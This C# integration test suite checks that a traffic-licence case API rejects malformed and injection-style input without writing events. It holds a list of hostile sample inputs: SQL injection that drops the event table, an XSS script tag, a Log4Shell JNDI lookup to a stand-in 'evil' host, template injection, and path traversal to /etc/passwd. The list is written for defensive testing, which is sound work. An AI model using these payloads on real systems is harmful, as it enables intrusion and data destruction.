using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using FluentAssertions;
using Marten;
using Microsoft.Extensions.DependencyInjection;
using TrafficCqrs.Api.Security;
using TrafficCqrs.Integration.Tests.Cases;
using TrafficCqrs.Integration.Tests.Infrastructure;
using TrafficCqrs.Integration.Tests.Licensing;

namespace TrafficCqrs.Integration.Tests.Security;

/// <summary>
/// Every command endpoint the application serves is sent a table of malformed requests; each
/// answer must be a 4xx problem document, and nothing may be written. The malformations come
/// from each endpoint's request record, so new endpoints are covered as they appear.
/// </summary>
[Collection(ApiCollection.Name)]
public sealed class the_bad_input_suite(ApiFixture fixture)
{
    /// <summary>A valid request on an endpoint, in a state where it would succeed.</summary>
    private sealed record Target(HttpClient Caller, string User, string Url, JsonObject Body, Guid? CaseId);

    /// <summary>Recipes for the endpoints whose valid requests this suite knows; others get a generated body.</summary>
    private async Task<Target> Prepare(ApiEndpoint endpoint)
    {
        var office = Actors.NewOffice();
        var who = Actors.Clerk(office);
        var clerk = fixture.ClientFor(who);
        switch (endpoint.ToString())
        {
            case "POST /api/cases":
                return new(clerk, who.User, "/api/cases",
                    new JsonObject { ["businessType"] = "licence.apply", ["applicantIdNumber"] = Http.NewIdNumber() }, null);
            case "POST /api/cases/{id:guid}/accept":
            {
                var id = await CaseApi.Open(clerk);
                return new(clerk, who.User, $"/api/cases/{id}/accept", [], id);
            }
            case "POST /api/cases/{id:guid}/payments":
            {
                var id = await CaseApi.OpenAccepted(clerk);
                return new(clerk, who.User, $"/api/cases/{id}/payments",
                    new JsonObject { ["amount"] = 10, ["method"] = "wechat", ["reference"] = "WX-1", ["expectedVersion"] = await CaseApi.Version(clerk, id) }, id);
            }
            case "POST /api/cases/{id:guid}/complete":
            {
                // A free business that changes the licence record when it completes.
                var id = await AcceptedLicenceCase(clerk, "licence.contact_change", new() { ["phone"] = "13800000000" });
                return new(clerk, who.User, $"/api/cases/{id}/complete", [], id);
            }
            case "POST /api/cases/{id:guid}/reject":
            {
                var id = await CaseApi.OpenAccepted(clerk);
                return new(clerk, who.User, $"/api/cases/{id}/reject",
                    new JsonObject { ["reason"] = "Seized.", ["expectedVersion"] = await CaseApi.Version(clerk, id) }, id);
            }
            case "POST /api/cases/{id:guid}/withdraw":
            {
                var id = await CaseApi.Open(clerk);
                return new(clerk, who.User, $"/api/cases/{id}/withdraw",
                    new JsonObject { ["reason"] = "Later.", ["expectedVersion"] = await CaseApi.Version(clerk, id) }, id);
            }
            case "POST /api/cases/{id:guid}/mailing":
            {
                // A completed replacement: the new licence is what gets mailed.
                var id = await AcceptedLicenceCase(clerk, "licence.replace_lost", []);
                (await clerk.PostJson($"/api/cases/{id}/payments", new { amount = 10m, method = "wechat", reference = "WX-MAIL-1" }))
                    .StatusCode.Should().Be(HttpStatusCode.OK);
                (await clerk.Post($"/api/cases/{id}/complete")).StatusCode.Should().Be(HttpStatusCode.OK);
                return new(clerk, who.User, $"/api/cases/{id}/mailing", new JsonObject
                {
                    ["carrier"] = "ems", ["trackingNumber"] = "EA123456789CN", ["expectedVersion"] = await CaseApi.Version(clerk, id),
                }, id);
            }
        }

        var body = endpoint.RequestType is null ? [] : BadInput.SampleBody(endpoint.RequestType);
        if (endpoint.Anonymous) return new(fixture.AnonymousClient(), "", endpoint.Url(), body, null);
        var role = the_role_matrix.AllowedByPolicy[endpoint.Policies[0]][0];
        var caller = the_role_matrix.TokenFor(role, office);
        return new(fixture.ClientFor(caller), caller.User, endpoint.Url(), body, null);
    }

    /// <summary>An accepted ID-only licence case for a fresh holder whose licence is on record.</summary>
    private async Task<Guid> AcceptedLicenceCase(HttpClient clerk, string businessType, Dictionary<string, string> details)
    {
        var idNumber = Http.NewIdNumber();
        await LicenceRecords.IssueHeld(fixture, idNumber);
        var opened = await clerk.PostJson("/api/cases", new { businessType, applicantIdNumber = idNumber, details });
        opened.StatusCode.Should().Be(HttpStatusCode.Created, await opened.Content.ReadAsStringAsync());
        var id = Guid.Parse((await opened.Body())["id"]!.GetValue<string>());
        (await clerk.Post($"/api/cases/{id}/accept")).StatusCode.Should().Be(HttpStatusCode.OK);
        return id;
    }

    private IEnumerable<ApiEndpoint> CommandEndpoints() =>
        EndpointCatalogue.All(fixture.Host.Services).Where(e => e.HasBody);

    private static IEnumerable<Malformation> MalformationsOf(ApiEndpoint endpoint, Target target)
    {
        if (endpoint.RequestType is not null)
            foreach (var m in BadInput.ForBody(target.Body, endpoint.RequestType))
                yield return m;
        if (endpoint.Pattern.Parameters.Count > 0)
        {
            yield return new("a route id that is not an id", Body(target), Url: _ => endpoint.Url(_ => "not-a-guid"));
            yield return new("a route id with injection", Body(target), Url: _ => endpoint.Url(_ => Uri.EscapeDataString("1' OR '1'='1")));
            yield return new("an unknown route id", Body(target), Url: _ => endpoint.Url(_ => Guid.Empty.ToString()));
        }
        if (target.CaseId is not null)
        {
            yield return new("If-Match that is not a version", Body(target), IfMatch: "\"latest\"");
            yield return new("a negative If-Match", Body(target), IfMatch: "\"-1\"");
            yield return new("a stale If-Match", Body(target), IfMatch: "\"99\"");
        }
    }

    private static string? Body(Target target) => target.Body.Count == 0 ? null : target.Body.ToJsonString();

    [Fact]
    public async Task the_valid_requests_the_suite_starts_from_succeed()
    {
        foreach (var endpoint in CommandEndpoints().Where(e => e.Route.StartsWith("/api/cases", StringComparison.Ordinal)))
        {
            var target = await Prepare(endpoint);
            var response = await Send(target, new Malformation("valid", Body(target)));
            response.IsSuccessStatusCode.Should().BeTrue($"{endpoint}: {await response.Content.ReadAsStringAsync()}");
        }
    }

    [Fact]
    public async Task every_malformed_command_is_a_4xx_problem_and_writes_nothing()
    {
        var failures = new List<string>();
        var sent = 0;
        foreach (var endpoint in CommandEndpoints())
        {
            var target = await Prepare(endpoint);
            foreach (var malformation in MalformationsOf(endpoint, target))
            {
                var before = await EventsBy(target.User);
                var version = await VersionOf(target);
                var response = await Send(target, malformation);
                sent++;
                var status = (int)response.StatusCode;
                var text = await response.Content.ReadAsStringAsync();
                var where = $"{endpoint} with {malformation.Name}: {status} {(text.Length > 200 ? text[..200] : text)}";

                if (status is < 400 or >= 500)
                    failures.Add(where);
                else if (response.Content.Headers.ContentType?.MediaType != "application/problem+json")
                    failures.Add(where + " (not a problem document)");
                else if (await EventsBy(target.User) != before || await VersionOf(target) != version)
                    failures.Add(where + " (events were written)");
            }
        }

        failures.Should().BeEmpty();
        sent.Should().BeGreaterThan(100);
    }

    [Fact]
    public async Task injection_looking_text_is_refused_where_a_format_is_expected_and_kept_verbatim_as_free_text()
    {
        string[] injections =
        [
            "'; DROP TABLE traffic.mt_events; --", "<script>alert(1)</script>", "${jndi:ldap://evil/x}", "{{7*7}}",
            "../../etc/passwd", "\" OR \"1\"=\"1", "$where: 1 == 1",
        ];
        var office = Actors.NewOffice();
        var clerk = fixture.ClientFor(Actors.Clerk(office));
        foreach (var text in injections)
        {
            (await clerk.PostJson("/api/cases", new { businessType = text, applicantIdNumber = Http.NewIdNumber() }))
                .StatusCode.Should().Be(HttpStatusCode.BadRequest);
            (await clerk.PostJson("/api/cases", new { businessType = "licence.renew", applicantIdNumber = text }))
                .StatusCode.Should().Be(HttpStatusCode.BadRequest);
            var id = await CaseApi.OpenAccepted(clerk);
            (await clerk.PostJson($"/api/cases/{id}/payments", new { amount = 10m, method = text, reference = "R1" }))
                .StatusCode.Should().Be(HttpStatusCode.BadRequest);
            (await clerk.PostJson($"/api/cases/{id}/payments", new { amount = 10m, method = "wechat", reference = text }))
                .StatusCode.Should().Be(HttpStatusCode.BadRequest);

            (await clerk.PostJson($"/api/cases/{id}/reject", new { reason = text })).StatusCode.Should().Be(HttpStatusCode.OK);
            (await (await clerk.GetAsync($"/api/cases/{id}")).Body())["reason"]!.GetValue<string>().Should().Be(text);
        }
        var list = await (await clerk.GetAsync("/api/cases?pageSize=200")).Body();
        list["totalItems"]!.GetValue<long>().Should().Be(injections.Length, "only the valid openings wrote anything");
    }

    private static Task<HttpResponseMessage> Send(Target target, Malformation malformation)
    {
        var request = new HttpRequestMessage(HttpMethod.Post, malformation.Url?.Invoke(target.Url) ?? target.Url);
        if (malformation.Body is not null)
            request.Content = new StringContent(malformation.Body, Encoding.UTF8, malformation.ContentType);
        if (malformation.IfMatch is not null)
            request.Headers.TryAddWithoutValidation("If-Match", malformation.IfMatch);
        return target.Caller.SendAsync(request);
    }

    private async Task<long> EventsBy(string user)
    {
        if (user.Length == 0) return 0;
        await using var session = fixture.Host.Services.GetRequiredService<IDocumentStore>().QuerySession();
        return await session.Events.QueryAllRawEvents().Where(e => e.UserName == user).CountAsync();
    }

    private async Task<long?> VersionOf(Target target)
    {
        if (target.CaseId is not { } id) return null;
        await using var session = fixture.Host.Services.GetRequiredService<IDocumentStore>().QuerySession();
        return (await session.Events.FetchStreamStateAsync(id))?.Version;
    }
}
